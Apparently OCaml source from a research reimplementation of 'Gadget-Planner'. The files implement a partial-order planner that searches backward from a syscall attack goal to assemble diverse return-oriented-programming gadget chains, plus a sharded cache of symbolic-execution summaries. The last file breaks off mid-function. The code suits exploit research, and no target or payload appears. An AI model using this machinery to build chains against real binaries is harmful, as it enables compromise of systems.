            a.Plan.gadget.Gadget.len )
          ( List.length b.Plan.demands,
            List.length b.Plan.gadget.Gadget.pre,
            b.Plan.gadget.Gadget.len ))
      insts
  in
  (* Diversity quota: plain ret gadgets are so plentiful that they would
     monopolize the cut; reserve part of it for the gadget kinds that set
     Gadget-Planner apart (conditional, merged, indirect, pivots), so the
     search actually exercises them (paper Table V). *)
  let category (st : Plan.step) =
    let g = st.Plan.gadget in
    if g.Gadget.has_cond || g.Gadget.has_merge then `Branchy
    else if
      g.Gadget.kind = Gadget.Return
      && (match g.Gadget.stack_delta with Gadget.Sdelta _ -> true | _ -> false)
    then `Plain
    else `Other
  in
  let of_cat c = List.filter (fun st -> category st = c) ranked in
  let take n l = List.filteri (fun i _ -> i < n) l in
  let branchy_quota = max 2 (cap / 4) in
  let other_quota = max 2 (cap / 4) in
  let picked =
    take (cap - branchy_quota - other_quota) (of_cat `Plain)
    @ take branchy_quota (of_cat `Branchy)
    @ take other_quota (of_cat `Other)
  in
  if List.length picked < cap then take cap ranked else picked

(* Close (consumer, cond) with a freshly instantiated gadget. *)
let new_step_successors (cfg : config) (memo : memo) (pool : Pool.t) (p : Plan.t)
    consumer cond : Plan.t list =
  if List.length p.Plan.steps >= cfg.max_steps then []
  else
    List.filter_map
      (fun step ->
        let p' =
          { Plan.steps = step :: p.Plan.steps;
            orderings = p.Plan.orderings;
            links = (step.Plan.sid, cond, consumer) :: p.Plan.links;
            open_conds =
              open_demands step
              @ List.filter (fun oc -> oc <> (consumer, cond)) p.Plan.open_conds;
            next_sid = p.Plan.next_sid + 1 }
        in
        Option.bind (Plan.add_ordering p' step.Plan.sid consumer) (fun p' ->
            Option.bind (Plan.protect_link p' step.Plan.sid cond consumer)
              (fun p' -> Plan.protect_from p' step)))
      (candidate_steps memo pool p cond ~cap:cfg.branch_cap)

type result = {
  plans : Plan.t list;
  expanded : int;
  exhausted : bool;   (* true if the whole space was searched *)
  budget_hit : bool;  (* search stopped on deadline or fuel, not space *)
}

(* [accept] gates completed plans: a complete plan that fails it (e.g.
   its payload cannot be assembled, or it duplicates a chain already
   emitted) is discarded WITHOUT consuming the plan quota, and the search
   keeps going. *)
let search ?(config = default_config) ?(accept = fun (_ : Plan.t) -> true)
    ?budget (pool : Pool.t) (goal : Goal.concrete) : result =
  let q = Pq.create () in
  let memo : memo = Hashtbl.create 1024 in
  let usage : (int64, int) Hashtbl.t = Hashtbl.create 64 in
  (* The config's own limits become a budget; an inherited budget can
     only tighten the deadline further (fuel = expansions here). *)
  let budget =
    match budget with
    | Some parent ->
      Budget.sub parent ~label:"plan" ~seconds:config.time_budget
        ~fuel:config.node_budget ()
    | None ->
      Budget.create ~label:"plan" ~seconds:config.time_budget
        ~fuel:config.node_budget ()
  in
  (* root plans: one per candidate syscall gadget *)
  let roots =
    List.filteri (fun i _ -> i < config.goal_cap) pool.Pool.syscall_gadgets
  in
  List.iter
    (fun g ->
      match Plan.instantiate_goal g goal ~sid:0 with
      | None -> ()
      | Some step ->
        (* payload-region cells are delivered with the payload itself;
           only cells elsewhere need write-what-where steps *)
        let mem_conds =
          List.filter_map
            (fun (a, v) ->
              if Layout.in_payload a then None else Some (0, Plan.Cmem (a, v)))
            goal.Goal.mem
        in
        Pq.push ~usage q
          { Plan.steps = [ step ];
            orderings = [];
            links = [];
            open_conds = open_demands step @ mem_conds;
            next_sid = 1 })
    roots;
  let visited = Hashtbl.create 1024 in
  let complete = ref [] in
  let expanded = ref 0 in
  let exhausted = ref true in
  let budget_hit = ref false in
  (try
     while true do
       Budget.check budget;
       match Pq.pop q with
       | None -> raise Exit
       | Some (key, p) when cost ~usage p > key ->
         (* the diversity penalty grew since this plan was queued: rescore
            lazily instead of expanding a stale-cheap entry *)
         Pq.push_key q (cost ~usage p) p
       | Some (_, p) ->
         let sig_ = Plan.signature p in
         if not (Hashtbl.mem visited sig_) then begin
           Hashtbl.add visited sig_ ();
           incr expanded;
           Budget.spend budget;
           match p.Plan.open_conds with
           | [] ->
             if accept p then begin
               complete := p :: !complete;
               List.iter
                 (fun (s : Plan.step) ->
                   let a = s.Plan.gadget.Gadget.addr in
                   Hashtbl.replace usage a
                     (1 + (match Hashtbl.find_opt usage a with Some n -> n | None -> 0)))
                 p.Plan.steps;
               if List.length !complete >= config.max_plans then begin
                 exhausted := false;
                 raise Exit
               end
             end
           | (consumer, cond) :: _ ->
             let succs =
               reuse_successors p consumer cond
               @ new_step_successors config memo pool p consumer cond
             in
             List.iter (Pq.push ~usage q) succs
         end
     done
   with
   | Exit -> ()
   | Budget.Exhausted _ ->
     exhausted := false;
     budget_hit := true);
  { plans = List.rev !complete; expanded = !expanded; exhausted = !exhausted;
    budget_hit = !budget_hit }
