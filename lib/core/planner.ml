(* The partial-order planner (paper §IV-D, Algorithm 1).

   Greedy best-first search, backward from the attack goal: the root
   plans each contain one GOAL step (an instantiated syscall gadget whose
   pre-conditions encode the target register state).  Each expansion pops
   the best partial plan, selects an open pre-condition, and tries to
   close it either by REUSING an existing step's effect (adding a causal
   link) or by INSTANTIATING a new gadget from the register-indexed pool.
   Threatened causal links are protected by promotion/demotion.

   Heuristics (paper's, in priority order): fewest open pre-conditions,
   then fewest accumulated constraints (we use demand+binding count),
   then fewest steps.

   The search does NOT stop at the first complete plan: it keeps going,
   emitting distinct complete plans until the node budget or the plan
   quota is exhausted (paper: "Gadget-Planner does not stop when finding
   one gadget chain"). *)

type config = {
  max_plans : int;            (* distinct complete plans to emit *)
  node_budget : int;          (* expansions before giving up *)
  time_budget : float;        (* seconds before giving up *)
  branch_cap : int;           (* candidate gadgets tried per open cond *)
  goal_cap : int;             (* syscall gadgets tried as roots *)
  max_steps : int;            (* plan size cap *)
}

let default_config =
  { max_plans = 32; node_budget = 4000; time_budget = 30.; branch_cap = 10;
    goal_cap = 6; max_steps = 14 }

(* Plan cost for the priority queue: fewest open pre-conditions, then
   fewest constraints, then fewest steps (the paper's heuristics) — plus a
   DIVERSITY pressure: gadgets that already appear in emitted chains incur
   a growing penalty, so once the easy chains are exhausted the search
   drifts to unexplored (conditional, merged, pivoting) providers, which
   is how "diverse gadget chains" keep coming (paper §IV-D). *)
let cost ~usage (p : Plan.t) =
  let constraints = ref 0 in
  let penalty = ref 0 in
  List.iter
    (fun (s : Plan.step) ->
      constraints :=
        !constraints + List.length s.Plan.demands + List.length s.Plan.bindings;
      match Hashtbl.find_opt usage s.Plan.gadget.Gadget.addr with
      | Some n -> penalty := !penalty + min n 40
      | None -> ())
    p.Plan.steps;
  (List.length p.Plan.open_conds, !constraints + !penalty, List.length p.Plan.steps)

module Pq = struct
  (* simple pairing-heap-free priority queue over a sorted map of costs *)
  module M = Map.Make (struct
    type t = int * int * int
    let compare = compare
  end)

  type 'a t = { mutable m : 'a list M.t; mutable size : int }

  let create () = { m = M.empty; size = 0 }

  let push q c p =
    let cur = match M.find_opt c q.m with Some l -> l | None -> [] in
    q.m <- M.add c (p :: cur) q.m;
    q.size <- q.size + 1

  let rec pop q =
    match M.min_binding_opt q.m with
    | None -> None
    | Some (c, []) ->
      (* an empty bucket must not end the search while other cost
         buckets may remain — drop it and keep looking *)
      q.m <- M.remove c q.m;
      pop q
    | Some (c, [ p ]) ->
      q.m <- M.remove c q.m;
      q.size <- q.size - 1;
      Some (c, p)
    | Some (c, p :: rest) ->
      q.m <- M.add c rest q.m;
      q.size <- q.size - 1;
      Some (c, p)
end

(* Queue entry: a plan plus its lazily computed, cached signature.
   [Plan.signature] is a Digest-of-Marshal of the whole plan; recomputing
   it on every pop (the seed behavior) made it one of the hottest spots
   in the search.  The memo lives HERE, not on [Plan.t]: plans are
   derived functionally ([{ p with ... }]), so a mutable field on the
   plan record would alias across derived plans and serve stale
   signatures. *)
type entry = { e_plan : Plan.t; mutable e_sig : string option }

let entry_of p = { e_plan = p; e_sig = None }

let entry_sig e =
  match e.e_sig with
  | Some s -> s
  | None ->
    let s = Plan.signature e.e_plan in
    e.e_sig <- Some s;
    s

(* Per-search counters, surfaced through [result] (and from there
   Api.stage_stats).  Plain mutable fields: each search — portfolio
   worker or single-queue — owns its own record; merging happens after
   the domains join. *)
type stats_acc = {
  mutable s_expanded : int;
  mutable s_peak_queue : int;
  mutable s_inst_hits : int;
  mutable s_cand_hits : int;
  mutable s_discarded : int;
}

let fresh_stats () =
  { s_expanded = 0; s_peak_queue = 0; s_inst_hits = 0; s_cand_hits = 0;
    s_discarded = 0 }

(* Add a step's demands as open conditions. *)
let open_demands (s : Plan.step) =
  List.map (fun d -> (s.Plan.sid, d)) s.Plan.demands

(* Try to close (consumer, cond) by linking from an existing step. *)
let reuse_successors (p : Plan.t) consumer cond : Plan.t list =
  List.filter_map
    (fun (s : Plan.step) ->
      if s.Plan.sid = consumer then None
      else
        let provides =
          match cond with
          | Plan.Creg (r, v) -> List.assoc_opt r s.Plan.effects = Some v
          | Plan.Cmem (a, v) -> List.mem (a, v) s.Plan.mem_effects
        in
        if not provides then None
        else
          let p =
            { p with
              Plan.links = (s.Plan.sid, cond, consumer) :: p.Plan.links;
              open_conds =
                List.filter (fun oc -> oc <> (consumer, cond)) p.Plan.open_conds }
          in
          Option.bind (Plan.add_ordering p s.Plan.sid consumer) (fun p ->
              Plan.protect_link p s.Plan.sid cond consumer))
    p.Plan.steps

(* Instantiation is plan-independent (only the step id differs), so each
   (gadget, condition) pair is solved at most once per search. *)
type memo = (int * Plan.cond, Plan.step option) Hashtbl.t

(* Fingerprint refutation of an instantiation (DESIGN.md §17): when the
   require equality [Plan.instantiate_for] would build pins a CLOSED
   term — same value under every valuation, which lane 0 reports — to
   the wrong constant, the query conjunction contains an unsatisfiable
   equality and [Solver.check] can only answer Unsat (linearizable) or
   Unknown (closed-false residual), never Sat: the fall-through result
   is None either way, so storing the None without building the query
   is verdict-preserving.  The structural gates ([Jfall], unclobbered
   register, no pointer write) mirror [instantiate_for]'s own early
   exits — those cases never reach the solver, so refuting them would
   pad the tally without saving a query. *)
let fp_refutes_cond (g : Gadget.t) (cond : Plan.cond) =
  (match g.Gadget.jmp with
  | Gp_symx.Exec.Jfall _ -> false
  | Gp_symx.Exec.Jret _ | Gp_symx.Exec.Jind _ -> true)
  &&
  match cond with
  | Plan.Creg (r, v) ->
    List.mem r g.Gadget.clobbered
    && (let l = Gp_smt.Fpeval.eval (Gadget.post_of g r) in
        l.Gp_smt.Fpeval.closed && l.Gp_smt.Fpeval.lv.(0) <> v)
  | Plan.Cmem (a, v) -> (
    match g.Gadget.ptr_writes with
    | [] -> false
    | (at, vt) :: _ ->
      let la = Gp_smt.Fpeval.eval at and lv = Gp_smt.Fpeval.eval vt in
      (la.Gp_smt.Fpeval.closed && la.Gp_smt.Fpeval.lv.(0) <> a)
      || (lv.Gp_smt.Fpeval.closed && lv.Gp_smt.Fpeval.lv.(0) <> v))

let instantiate_counted ?stats (memo : memo) (g : Gadget.t) cond ~sid :
    Plan.step option =
  let key = (g.Gadget.id, cond) in
  let template =
    match Hashtbl.find_opt memo key with
    | Some t ->
      (match stats with
       | Some st -> st.s_inst_hits <- st.s_inst_hits + 1
       | None -> ());
      t
    | None ->
      let t =
        if Gp_smt.Fpeval.enabled () && fp_refutes_cond g cond then begin
          Gp_smt.Fpeval.note_refuted ();
          None
        end
        else Plan.instantiate_for g cond ~sid:(-1)
      in
      Hashtbl.add memo key t;
      t
  in
  Option.map (fun (st : Plan.step) -> { st with Plan.sid = sid }) template

let instantiate_memo (memo : memo) (g : Gadget.t) cond ~sid : Plan.step option =
  instantiate_counted memo g cond ~sid

(* Candidate gadgets for a condition: instantiate first (this is
   Algorithm 1's PickIfSatisfy), then keep the [cap] cheapest successful
   instantiations — fewest new demands, then fewest pre-conditions and
   shortest gadget.  Dead-end gadgets (ending at a syscall) never apply.

   The whole ranked, quota-applied cut is a function of the condition
   alone (ranking keys and the category quota never look at the plan;
   the step id is stamped on afterwards), so searches memoize it per
   [cond] — see [cand_memo] below. *)
let ranked_candidates ?stats (memo : memo) (pool : Pool.t) cond ~cap :
    Plan.step list =
  let gs =
    match cond with
    | Plan.Creg (r, _) -> Pool.setting pool r
    | Plan.Cmem _ -> pool.Pool.mem_writers
  in
  let insts =
    List.filter_map
      (fun g -> instantiate_counted ?stats memo g cond ~sid:(-1))
      gs
  in
  let ranked =
    List.sort
      (fun (a : Plan.step) (b : Plan.step) ->
        compare
          ( List.length a.Plan.demands,
            List.length a.Plan.gadget.Gadget.pre,
            a.Plan.gadget.Gadget.len )
          ( List.length b.Plan.demands,
            List.length b.Plan.gadget.Gadget.pre,
            b.Plan.gadget.Gadget.len ))
      insts
  in
  (* Diversity quota: plain ret gadgets are so plentiful that they would
     monopolize the cut; reserve part of it for the gadget kinds that set
     Gadget-Planner apart (conditional, merged, indirect, pivots), so the
     search actually exercises them (paper Table V). *)
  let category (st : Plan.step) =
    let g = st.Plan.gadget in
    if g.Gadget.has_cond || g.Gadget.has_merge then `Branchy
    else if
      g.Gadget.kind = Gadget.Return
      && (match g.Gadget.stack_delta with Gadget.Sdelta _ -> true | _ -> false)
    then `Plain
    else `Other
  in
  let of_cat c = List.filter (fun st -> category st = c) ranked in
  let take n l = List.filteri (fun i _ -> i < n) l in
  let branchy_quota = max 2 (cap / 4) in
  let other_quota = max 2 (cap / 4) in
  let picked =
    take (cap - branchy_quota - other_quota) (of_cat `Plain)
    @ take branchy_quota (of_cat `Branchy)
    @ take other_quota (of_cat `Other)
  in
  if List.length picked < cap then take cap ranked else picked

let candidate_steps (memo : memo) (pool : Pool.t) (p : Plan.t) cond ~cap :
    Plan.step list =
  List.map
    (fun (st : Plan.step) -> { st with Plan.sid = p.Plan.next_sid })
    (ranked_candidates memo pool cond ~cap)

(* Ranked-candidate memo, per search (the cap is fixed by the config for
   a search's whole lifetime, so the condition alone is the key). *)
type cand_memo = (Plan.cond, Plan.step list) Hashtbl.t

let candidates_cached ?stats (memo : memo) (cmemo : cand_memo) (pool : Pool.t)
    cond ~cap : Plan.step list =
  match Hashtbl.find_opt cmemo cond with
  | Some l ->
    (match stats with
     | Some st -> st.s_cand_hits <- st.s_cand_hits + 1
     | None -> ());
    l
  | None ->
    let l = ranked_candidates ?stats memo pool cond ~cap in
    Hashtbl.add cmemo cond l;
    l

(* Close (consumer, cond) with a freshly instantiated gadget. *)
let new_step_successors (cfg : config) ?stats (memo : memo)
    (cmemo : cand_memo) (pool : Pool.t) (p : Plan.t) consumer cond :
    Plan.t list =
  if List.length p.Plan.steps >= cfg.max_steps then []
  else
    List.filter_map
      (fun (template : Plan.step) ->
        let step = { template with Plan.sid = p.Plan.next_sid } in
        let p' =
          { Plan.steps = step :: p.Plan.steps;
            orderings = p.Plan.orderings;
            links = (step.Plan.sid, cond, consumer) :: p.Plan.links;
            open_conds =
              open_demands step
              @ List.filter (fun oc -> oc <> (consumer, cond)) p.Plan.open_conds;
            next_sid = p.Plan.next_sid + 1 }
        in
        Option.bind (Plan.add_ordering p' step.Plan.sid consumer) (fun p' ->
            Option.bind (Plan.protect_link p' step.Plan.sid cond consumer)
              (fun p' -> Plan.protect_from p' step)))
      (candidates_cached ?stats memo cmemo pool cond ~cap:cfg.branch_cap)

type result = {
  plans : Plan.t list;
  expanded : int;
  peak_queue : int;
  inst_memo_hits : int;
  cand_memo_hits : int;
  discarded : int;
  exhausted : bool;   (* true if the whole space was searched *)
  budget_hit : bool;  (* search stopped on deadline or fuel, not space *)
}

(* The config's own limits become a budget; an inherited budget can only
   tighten the deadline further (fuel = expansions here). *)
let search_budget (config : config) = function
  | Some parent ->
    Budget.sub parent ~label:"plan" ~seconds:config.time_budget
      ~fuel:config.node_budget ()
  | None ->
    Budget.create ~label:"plan" ~seconds:config.time_budget
      ~fuel:config.node_budget ()

(* Goal-step analogue of [fp_refutes_cond]: a goal register whose
   syscall-state term is closed with the wrong value makes
   [instantiate_goal]'s require unsatisfiable — None either way. *)
let fp_refutes_goal (g : Gadget.t) (goal : Goal.concrete) =
  match g.Gadget.syscall_state with
  | None -> false
  | Some sys ->
    List.exists
      (fun (r, v) ->
        match List.assoc_opt r sys with
        | Some t ->
          let l = Gp_smt.Fpeval.eval t in
          l.Gp_smt.Fpeval.closed && l.Gp_smt.Fpeval.lv.(0) <> v
        | None -> false)
      goal.Goal.regs

(* Root plan for one candidate syscall gadget. *)
let root_plan (goal : Goal.concrete) (g : Gadget.t) : Plan.t option =
  if Gp_smt.Fpeval.enabled () && fp_refutes_goal g goal then begin
    Gp_smt.Fpeval.note_refuted ();
    None
  end
  else
    match Plan.instantiate_goal g goal ~sid:0 with
    | None -> None
    | Some step ->
    (* payload-region cells are delivered with the payload itself;
       only cells elsewhere need write-what-where steps *)
    let mem_conds =
      List.filter_map
        (fun (a, v) ->
          if Layout.in_payload a then None else Some (0, Plan.Cmem (a, v)))
        goal.Goal.mem
    in
    Some
      { Plan.steps = [ step ];
        orderings = [];
        links = [];
        open_conds = open_demands step @ mem_conds;
        next_sid = 1 }

(* The best-first loop, shared by the single-queue [search] and each
   portfolio worker of [search_par].  Every piece of mutable state —
   queue, memos, usage/visited tables, stats — is owned by the caller
   and never crosses a domain boundary; the pool is immutable. *)
let run_search (config : config) ~accept ~budget ~(stats : stats_acc)
    (memo : memo) (cmemo : cand_memo) (pool : Pool.t) (roots : Plan.t list) :
    Plan.t list * bool * bool =
  let q = Pq.create () in
  let usage : (int64, int) Hashtbl.t = Hashtbl.create 64 in
  let push p = Pq.push q (cost ~usage p) (entry_of p) in
  let push_entry e = Pq.push q (cost ~usage e.e_plan) e in
  List.iter push roots;
  let visited = Hashtbl.create 1024 in
  let complete = ref [] in
  let exhausted = ref true in
  let budget_hit = ref false in
  (try
     while true do
       Budget.check budget;
       if q.Pq.size > stats.s_peak_queue then stats.s_peak_queue <- q.Pq.size;
       match Pq.pop q with
       | None -> raise Exit
       | Some (key, e) when cost ~usage e.e_plan > key ->
         (* the diversity penalty grew since this plan was queued: rescore
            lazily instead of expanding a stale-cheap entry *)
         push_entry e
       | Some (_, e) ->
         let p = e.e_plan in
         let sig_ = entry_sig e in
         if not (Hashtbl.mem visited sig_) then begin
           Hashtbl.add visited sig_ ();
           stats.s_expanded <- stats.s_expanded + 1;
           Budget.spend budget;
           match p.Plan.open_conds with
           | [] ->
             if accept p then begin
               complete := p :: !complete;
               List.iter
                 (fun (s : Plan.step) ->
                   let a = s.Plan.gadget.Gadget.addr in
                   Hashtbl.replace usage a
                     (1 + (match Hashtbl.find_opt usage a with Some n -> n | None -> 0)))
                 p.Plan.steps;
               if List.length !complete >= config.max_plans then begin
                 exhausted := false;
                 raise Exit
               end
             end
             else stats.s_discarded <- stats.s_discarded + 1
           | (consumer, cond) :: _ ->
             let succs =
               reuse_successors p consumer cond
               @ new_step_successors config ~stats memo cmemo pool p consumer
                   cond
             in
             List.iter push succs
         end
     done
   with
   | Exit -> ()
   | Budget.Exhausted _ ->
     exhausted := false;
     budget_hit := true);
  (List.rev !complete, !exhausted, !budget_hit)

(* [accept] gates completed plans: a complete plan that fails it (e.g.
   its payload cannot be assembled, or it duplicates a chain already
   emitted) is discarded WITHOUT consuming the plan quota, and the search
   keeps going. *)
let search ?(config = default_config) ?(accept = fun (_ : Plan.t) -> true)
    ?budget (pool : Pool.t) (goal : Goal.concrete) : result =
  let budget = search_budget config budget in
  let roots =
    List.filteri (fun i _ -> i < config.goal_cap) pool.Pool.syscall_gadgets
    |> List.filter_map (root_plan goal)
  in
  let stats = fresh_stats () in
  let memo : memo = Hashtbl.create 1024 in
  let cmemo : cand_memo = Hashtbl.create 64 in
  let plans, exhausted, budget_hit =
    run_search config ~accept ~budget ~stats memo cmemo pool roots
  in
  { plans; expanded = stats.s_expanded; peak_queue = stats.s_peak_queue;
    inst_memo_hits = stats.s_inst_hits; cand_memo_hits = stats.s_cand_hits;
    discarded = stats.s_discarded; exhausted; budget_hit }

(* Goal-portfolio search: one INDEPENDENT best-first search per root
   syscall gadget, fanned over domains.  Each worker owns its queue,
   memos, usage and visited tables, and a [Budget.slice] of the parent —
   a deterministic fuel prefix (node_budget / #roots, remainder to the
   earliest roots) plus the shared wall-clock deadline.  Results merge
   in root order, so the outcome is a pure function of the pool, the
   goal, and the config — never of the job count or the interleaving.

   The portfolio explores a DIFFERENT frontier than the single shared
   queue (each root is guaranteed its fuel share instead of competing in
   one cost order), so [search] is kept for callers that want the seed's
   exact trajectory; the pipeline (Api) always uses the portfolio, at
   every job count, which is what makes jobs:N ≡ jobs:1 trivial.

   Per-worker usage tables preserve the diversity heuristic where it
   matters: usage pressure exists to stop chain k+1 from being a
   permutation of chain k, and chains from the SAME root are exactly the
   ones built from the same gadget neighbourhood.  Cross-root repetition
   is handled by the caller's chain_set_key dedup at merge.

   [accept_for i] builds the accept gate for root index [i]; per-root
   gates let the caller (Api) validate payloads inside each worker —
   moving emulator validation off the single search thread — while
   keeping each gate's state domain-private. *)
let search_par ?(config = default_config)
    ?(accept_for = fun (_ : int) (_ : Plan.t) -> true) ?budget ?(jobs = 1)
    (pool : Pool.t) (goal : Goal.concrete) : result =
  let parent = search_budget config budget in
  let roots =
    List.filteri (fun i _ -> i < config.goal_cap) pool.Pool.syscall_gadgets
    |> List.filter_map (root_plan goal)
    |> Array.of_list
  in
  let n = Array.length roots in
  if n = 0 then
    { plans = []; expanded = 0; peak_queue = 0; inst_memo_hits = 0;
      cand_memo_hits = 0; discarded = 0; exhausted = true; budget_hit = false }
  else begin
    let share = config.node_budget / n and rem = config.node_budget mod n in
    let tasks =
      Array.init n (fun i () ->
          let fuel = share + (if i < rem then 1 else 0) in
          let b = Budget.slice parent ~label:"plan-root" ~fuel () in
          let stats = fresh_stats () in
          let memo : memo = Hashtbl.create 1024 in
          let cmemo : cand_memo = Hashtbl.create 64 in
          let plans, exhausted, budget_hit =
            run_search config ~accept:(accept_for i) ~budget:b ~stats memo
              cmemo pool [ roots.(i) ]
          in
          (plans, exhausted, budget_hit, stats))
    in
    let results = Gp_util.Par.run ~jobs tasks in
    let sum f = Array.fold_left (fun acc r -> acc + f r) 0 results in
    { plans =
        List.concat_map (fun (ps, _, _, _) -> ps) (Array.to_list results);
      expanded = sum (fun (_, _, _, s) -> s.s_expanded);
      peak_queue =
        Array.fold_left
          (fun acc (_, _, _, s) -> max acc s.s_peak_queue)
          0 results;
      inst_memo_hits = sum (fun (_, _, _, s) -> s.s_inst_hits);
      cand_memo_hits = sum (fun (_, _, _, s) -> s.s_cand_hits);
      discarded = sum (fun (_, _, _, s) -> s.s_discarded);
      exhausted = Array.for_all (fun (_, e, _, _) -> e) results;
      budget_hit = Array.exists (fun (_, _, b, _) -> b) results }
  end
