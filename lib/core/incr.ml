(* Content-addressed incremental analysis (DESIGN.md §11).

   One process-wide table maps {!Gadget.content_key} strings to the full
   result of symbolically executing that content — [(summaries,
   refusal)] exactly as [Exec.summarize_r] returns them.  The table is
   consulted by [Extract.examine_start] before executing, so identical
   byte content — unaligned siblings inside one image, or the same run
   harvested from [original]/[llvm-obf]/[tigress] builds — is summarized
   once.  Because the key determines the summaries exactly (see
   [Gadget.content_key]) and [Exec.rebase] restores the one
   position-dependent field, a hit is bit-identical to a fresh compute:
   the layer is semantically transparent and on by default, like the
   term and solver memos ([set_enabled false] for ablation).

   [load]/[save] round-trip the table — plus the solver verdict memos,
   which is how SUBSUMPTION consults the store: its probe verdicts are
   pure functions of canonical formula keys, so pre-seeding them answers
   warm-start probes without a solve — through [Gp_util.Store]'s
   checksummed format.  A store that fails any check (missing, corrupt,
   version-stale) degrades to a cold run; the caller records the reason
   and carries on.

   Thread safety: same discipline as the other shared caches — nothing
   user-supplied under a lock, first-write-wins so racing domains at
   worst duplicate a compute.  The table is SHARDED by key hash (16
   hashtables, one mutex each, mirroring [Gp_smt.Cache]) so resident
   daemon workers contend per shard instead of on one global lock
   (DESIGN.md §15); sharding is invisible in the API and the serve
   suite checks observational equivalence against a single-lock
   reference.  [load]/[save] are main-domain operations (called outside
   the parallel sections by Api). *)

open Gp_smt

(* v2: State.t gained [hazard_cmps] (undecidable alias comparisons,
   rechecked by Exec.extend after substitution), which Exec.put_state
   serializes — v1 summary payloads no longer decode.
   v3: the store gained the "fingerprints" section (DESIGN.md §17).
   Old readers would skip the unknown section harmlessly, but a NEW
   reader must not trust fingerprints written by a build whose lane
   semantics it cannot verify — a wrong mask silently skips real
   probes — so the addition bumps the schema and v2 stores demote
   through the usual stale path. *)
let schema_version = 3
let file_name = "summaries.gpst"
let summaries_section = "summaries"

(* Suffix summaries (DESIGN.md §16) ride in their own section: old
   readers skip unknown sections, so no schema bump is needed, and the
   suffix key space (Gadget.suffix_key) never collides with whole-gadget
   keys.  Values stay RAW (Exec.write_suffix bytes): decoding needs the
   consulting image's absolute address, so Extract's hook decodes. *)
let suffixes_section = "suffixes"

(* Semantic fingerprints (DESIGN.md §17) ride in a third section, keyed
   by [Gadget.fp_key] — a pure content address of the semantic fields
   the fingerprint reads, independent of decode position and residual
   budget — so warm and transfer runs skip even the one-time batched
   evaluation. *)
let fingerprints_section = "fingerprints"

type value = Gp_symx.Exec.summary list * string option

let shard_count = 16

type shard = { s_tbl : (string, value) Hashtbl.t; s_lock : Mutex.t }

let shards : shard array =
  Array.init shard_count (fun _ ->
      { s_tbl = Hashtbl.create 512; s_lock = Mutex.create () })

let shard_of key = shards.(Hashtbl.hash key land (shard_count - 1))

type sshard = { x_tbl : (string, string) Hashtbl.t; x_lock : Mutex.t }

let sshards : sshard array =
  Array.init shard_count (fun _ ->
      { x_tbl = Hashtbl.create 512; x_lock = Mutex.create () })

let sshard_of key = sshards.(Hashtbl.hash key land (shard_count - 1))

(* Store-level temperature counters for the suffix table, reported by
   the bench transfer rows.  Process-global atomics like the solver's:
   excluded from differential fingerprints. *)
let sf_hits = Atomic.make 0
let sf_misses = Atomic.make 0

let suffix_store_stats () = (Atomic.get sf_hits, Atomic.get sf_misses)

type fshard = { f_tbl : (string, Gadget.fp) Hashtbl.t; f_lock : Mutex.t }

let fshards : fshard array =
  Array.init shard_count (fun _ ->
      { f_tbl = Hashtbl.create 512; f_lock = Mutex.create () })

let fshard_of key = fshards.(Hashtbl.hash key land (shard_count - 1))

(* Fingerprint-table temperature, same discipline as [sf_hits]: a hit
   means the batched evaluation was skipped (warm within a run via this
   table, across runs via the store section).  The REFUTATION tally —
   jobs- and temperature-invariant — lives in [Gp_smt.Fpeval]. *)
let fp_hits = Atomic.make 0
let fp_misses = Atomic.make 0

let fp_store_stats () = (Atomic.get fp_hits, Atomic.get fp_misses)

let write_fp fp =
  let b = Buffer.create 64 in
  Gadget.put_fp b fp;
  Buffer.contents b

let read_fp v =
  let pos = ref 0 in
  Gadget.get_fp v pos

let on = ref true

let enabled () = !on
let set_enabled b = on := b

let size () =
  Array.fold_left
    (fun acc s -> acc + Mutex.protect s.s_lock (fun () -> Hashtbl.length s.s_tbl))
    0 shards

let suffix_size () =
  Array.fold_left
    (fun acc s -> acc + Mutex.protect s.x_lock (fun () -> Hashtbl.length s.x_tbl))
    0 sshards

let fp_size () =
  Array.fold_left
    (fun acc s -> acc + Mutex.protect s.f_lock (fun () -> Hashtbl.length s.f_tbl))
    0 fshards

let reset () =
  Array.iter
    (fun s -> Mutex.protect s.s_lock (fun () -> Hashtbl.reset s.s_tbl))
    shards;
  Array.iter
    (fun s -> Mutex.protect s.x_lock (fun () -> Hashtbl.reset s.x_tbl))
    sshards;
  Array.iter
    (fun s -> Mutex.protect s.f_lock (fun () -> Hashtbl.reset s.f_tbl))
    fshards;
  Atomic.set sf_hits 0;
  Atomic.set sf_misses 0;
  Atomic.set fp_hits 0;
  Atomic.set fp_misses 0

let find key =
  let s = shard_of key in
  Mutex.protect s.s_lock (fun () -> Hashtbl.find_opt s.s_tbl key)

(* Forward hook into the journal (defined below): fired once per fresh
   insert so journaled runs append summaries as they are produced. *)
let fresh_hook : (string -> value -> unit) ref = ref (fun _ _ -> ())

let add key v =
  let s = shard_of key in
  let fresh =
    Mutex.protect s.s_lock (fun () ->
        if Hashtbl.mem s.s_tbl key then false
        else begin
          Hashtbl.add s.s_tbl key v;
          true
        end)
  in
  if fresh then !fresh_hook key v

let suffix_fresh_hook : (string -> string -> unit) ref = ref (fun _ _ -> ())

let find_suffix key =
  let s = sshard_of key in
  let r = Mutex.protect s.x_lock (fun () -> Hashtbl.find_opt s.x_tbl key) in
  (match r with
  | Some _ -> Atomic.incr sf_hits
  | None -> Atomic.incr sf_misses);
  r

let add_suffix key payload =
  let s = sshard_of key in
  let fresh =
    Mutex.protect s.x_lock (fun () ->
        if Hashtbl.mem s.x_tbl key then false
        else begin
          Hashtbl.add s.x_tbl key payload;
          true
        end)
  in
  if fresh then !suffix_fresh_hook key payload

let fp_fresh_hook : (string -> string -> unit) ref = ref (fun _ _ -> ())

(* Fingerprint of a gadget, through the content-addressed cache: a hit
   (within a run, or seeded from the store) skips the batched
   evaluation entirely; a miss computes, publishes first-write-wins,
   and journals.  The value is a pure function of [Gadget.fp_key], so a
   racing duplicate compute returns the identical fingerprint. *)
let fp_of (g : Gadget.t) : Gadget.fp =
  let key = Gadget.fp_key g in
  let s = fshard_of key in
  match Mutex.protect s.f_lock (fun () -> Hashtbl.find_opt s.f_tbl key) with
  | Some fp ->
    Atomic.incr fp_hits;
    fp
  | None ->
    Atomic.incr fp_misses;
    let fp = Gadget.fingerprint g in
    let fresh =
      Mutex.protect s.f_lock (fun () ->
          if Hashtbl.mem s.f_tbl key then false
          else begin
            Hashtbl.add s.f_tbl key fp;
            true
          end)
    in
    if fresh then !fp_fresh_hook key (write_fp fp);
    fp

(* Snapshot the whole table shard by shard (each under its own lock;
   no cross-shard atomicity needed — callers snapshot outside the
   parallel sections). *)
let fold_all f acc =
  Array.fold_left
    (fun acc s ->
